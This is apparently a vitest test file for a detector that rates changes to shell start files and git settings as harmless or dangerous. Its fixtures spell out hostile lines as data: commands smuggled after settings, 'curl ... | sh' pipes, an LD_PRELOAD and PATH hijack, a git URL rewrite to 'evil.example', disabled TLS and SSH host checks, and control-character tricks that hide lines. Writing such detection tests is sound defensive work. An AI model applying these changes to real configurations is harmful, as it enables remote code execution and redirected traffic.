import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../src/base/json.ts';
import { judgeUnit } from '../../../engines/shell/judge/judge-unit.ts';
import { codecs, fixture, unitsIn } from './place-files.ts';

const { bash, git } = codecs as { bash: (typeof codecs)[string]; git: (typeof codecs)[string] };
const codecOf = (shell: string): (typeof codecs)[string] => codecs[shell] as (typeof codecs)[string];

function recordOf(codec: (typeof codecs)[string], text: string): JsonObject {
  const [[id, unit] = ['', '']] = unitsIn(codec, text);
  return codec.fieldsOf(id, unit);
}

/** Lines of real files and their hostile siblings: below each `== level shell` one a row, `⏎` for a line break. */
const rows = fixture('judged-lines')
  .split(/^== /m)
  .slice(1)
  .flatMap((block) => {
    const [head = '', ...lines] = block.trimEnd().split('\n');
    const [level = '', shell = ''] = head.split(' ');
    return lines.map((line) => ({ level, shell, text: line.replaceAll('⏎', '\n') }));
  });

describe('a change of a start file', () => {
  it.each(rows.filter(({ shell }) => shell !== 'git'))('11 is $level in $shell: $text', ({ level, shell, text }) => {
    const judgement = judgeUnit(null, recordOf(codecOf(shell), text));
    expect(judgement.level).toBe(level);
    expect(judgement.words.length).toBeGreaterThan(5);
  });

  it.each([
    ["alias ssh='ssh -o StrictHostKeyChecking=no'", 'StrictHostKeyChecking=no'],
    ['export PATH=/tmp/bin:$PATH', '/tmp/bin'],
    ['export LD_PRELOAD=/tmp/x.so', '/tmp/x.so'],
    ['export HTTPS_PROXY=http://10.0.0.1:3128', '10.0.0.1'],
    ["trap 'curl x' DEBUG", 'curl x'],
    ['. ~/.evil', '~/.evil'],
  ])('11 says why, and names the value: %s', (text, value) => {
    expect(judgeUnit(null, recordOf(bash, text)).words).toContain(value);
  });

  it('11 that has git read nothing at all is not harmless', () => {
    const fields = { kind: 'git', name: 'color.ui', shell: 'any', body: 'ui = "auto' };
    expect(judgeUnit(null, fields).level).toBe('dangerous');
    expect(judgeUnit(null, { ...fields, body: 'ui = "auto"' }).level).toBe('harmless');
  });

  it('11 that is one of comments and white space alone is harmless', () => {
    const [before, next] = ['export EDITOR=vim', '# what I write with\nexport EDITOR=vim # ok'].map((text) =>
      recordOf(bash, text),
    ) as [JsonObject, JsonObject];
    expect(judgeUnit(before, next).level).toBe('harmless');
  });

  it('11 that looks like a comment inside of a function is none', () => {
    const [before, next] = ['f() {\n# one\n}', 'f() {\n# two\n}'].map((text) => recordOf(bash, text)) as [
      JsonObject,
      JsonObject,
    ];
    expect(judgeUnit(before, next).level).toBe('dangerous');
  });

  it.each([
    ["alias week='date +%V'", 'harmless'],
    ["alias rm='rm -i'", 'dangerous'],
    ["alias cp='cp -iv'", 'dangerous'],
    ["alias wget='wget -c'", 'harmless'],
    ["alias ssh='ssh -F ~/.ssh/careful'", 'dangerous'],
    ["alias deploy='kubectl apply -f x'", 'harmless'],
    ['greet() { :; }', 'dangerous'],
    ['umask 077', 'dangerous'],
    ['set -o noclobber', 'dangerous'],
    ['shopt -s histappend', 'dangerous'],
    ['shopt -s checkwinsize', 'harmless'],
    ['export PIP_REQUIRE_VIRTUALENV=true', 'dangerous'],
    ['HISTSIZE=100000', 'dangerous'],
    ['export LANG=C', 'harmless'],
    ["PS1='> '", 'harmless'],
    ['complete -d cd', 'harmless'],
    ['export PATH=/opt/x:$PATH', 'dangerous'],
    ['source ~/.x', 'dangerous'],
  ] as const)('11 that removes %s is %s', (text, level) => {
    expect(judgeUnit(recordOf(bash, text), null).level).toBe(level);
  });

  it.each([
    ["alias rm='rm -i'", "alias rm='rm -v'", 'dangerous'],
    ["alias rm='rm -I --preserve-root'", "alias rm='rm -i'", 'harmless'],
    ["alias rm='rm -i'", "alias rm='rm -iv'", 'harmless'],
    ['umask 077', 'umask 022', 'dangerous'],
    ['HISTSIZE=100000', 'HISTSIZE=500', 'dangerous'],
    ['HISTSIZE=500', 'HISTSIZE=100000', 'harmless'],
    ['HISTCONTROL=ignoreboth', 'HISTCONTROL=ignoredups', 'dangerous'],
    ['export A=x\\ #y', 'export A=x\\ #z', 'dangerous'],
    ['f() { ls; }', 'f() { ls; } # so', 'harmless'],
  ] as const)('11 from %s to %s is %s', (was, is, level) => {
    expect(judgeUnit(recordOf(bash, was), recordOf(bash, is)).level).toBe(level);
  });

  it.each([
    ['alias', 'gs', ';curl example.org\nalias gs="git status"'],
    ['alias', '', "alias ='ls'"],
    ['alias', 'gs', "alias gs='ls' 'x=y'"],
    ['git', 'color.ui', '\tsshCommand = x'],
    ['git', 'color.ui', '[core] sshCommand = x'],
    ['option', 'umask', 'umask 077; curl example.org'],
    ['option', 'autocd', 'setopt autocd; curl example.org'],
    ['option', 'zstyle :completion:* menu', "zstyle ':completion:*' menu select; curl example.org"],
    ['bind', '-e', 'bindkey -e; curl example.org'],
    ['completion', 'cd', 'complete -d cd; curl example.org'],
    ['prompt', 'PS1', "PS1='> '; curl example.org"],
    ['alias', 'gs', 'alias gs="git status"\u001b[2K'],
    ['alias', 'gs', '# fine\rcurl example.org\nalias gs="git status"'],
    ['Alias', 'gs', 'alias gs="git status"'],
    ['alias', 'gs', 'alias gs="git status"\ncurl example.org | sh'],
    ['alias', 'gs', "alias gs='git\nstatus'"],
    ['alias', 'other', 'alias gs="git status"'],
    ['env', 'LANG', 'LANG=C curl example.org'],
    ['option', 'histappend', 'shopt -s histappend; curl example.org'],
    ['__proto__', 'x', 'x'],
    ['constructor', 'x', 'x'],
  ])('11 that no file of ours would bring is dangerous: %s %s %j', (kind, name, body) => {
    for (const shell of ['bash', 'zsh', 'any', 'other']) {
      expect(judgeUnit(null, { kind, name, body, shell }).level).toBe('dangerous');
    }
  });

  it('11 of another shell says something else, and is looked at anew', () => {
    const before = recordOf(bash, "alias x='rm -rf'");
    expect(judgeUnit(before, { ...before, shell: 'zsh' }).level).toBe('dangerous');
    expect(judgeUnit(null, { kind: 'alias', name: 'gs', body: 'alias gs="git status"', shell: 'tcsh' }).level).toBe(
      'dangerous',
    );
    expect(
      codecOf('fish').unitOf('fish/alias/x', { kind: 'alias', name: 'x', body: 'x', shell: 'bash' }),
    ).toBeUndefined();
  });

  it('11 takes whatever comes, however large', () => {
    const huge = 'a '.repeat(500_000);
    for (const body of [
      `alias x='${huge}'`,
      `X="${huge}"`,
      `PS1='${huge}'`,
      huge,
      `# ${huge}`,
      '('.repeat(500_000),
      `set ${huge}`,
      ...['TOKEN', '-', 'eyJ-', " # '", '\\', '"', ' ', '\u001b'].map((one) => one.repeat(19_000 / one.length)),
    ]) {
      for (const [kind, shell] of [
        ['alias', 'bash'],
        ['env', 'fish'],
        ['prompt', 'zsh'],
        ['bind', 'fish'],
        ['git', 'any'],
        ['completion', 'fish'],
        ['option', 'zsh'],
      ] as const) {
        expect(['harmless', 'dangerous']).toContain(judgeUnit(null, { kind, name: 'x', body, shell }).level);
      }
    }
  });
});

describe('a change of a git setting', () => {
  it.each(rows.filter(({ shell }) => shell === 'git'))('12 is $level: $text', ({ level, text }) => {
    expect(judgeUnit(null, recordOf(git, text)).level).toBe(level);
  });

  it.each([
    ['[url "http://evil.example/"]\n\tinsteadOf = https://github.com/', 'evil.example'],
    ['[http]\n\tsslVerify = false', 'which servers are trusted'],
    ['[user]\n\temail = other@example.org', 'other@example.org'],
    ['[alias]\n\tx = !curl example.org | sh', 'curl example.org'],
  ])('12 says why, and names the value: %j', (text, value) => {
    expect(judgeUnit(null, recordOf(git, text)).words).toContain(value);
  });

  it.each([
    ['[color]\n\tui = auto', 'harmless'],
    ['[alias]\n\tx = !sh', 'harmless'],
    ['[pull]\n\tff = only', 'dangerous'],
    ['[user]\n\temail = a@b', 'dangerous'],
    ['[http]\n\tsslVerify = true', 'dangerous'],
  ] as const)('12 that removes %j is %s', (text, level) => {
    expect(judgeUnit(recordOf(git, text), null).level).toBe(level);
  });

  it.each([
    '[safe]\n\tdirectory = *',
    '[credential]\n\thelper = store',
    '[include]\n\tpath = x',
    '[includeIf "x"]\n\tpath = x',
  ])('12 of this machine alone is no unit: %j', (text) => {
    expect(unitsIn(git, text).size).toBe(0);
  });
});
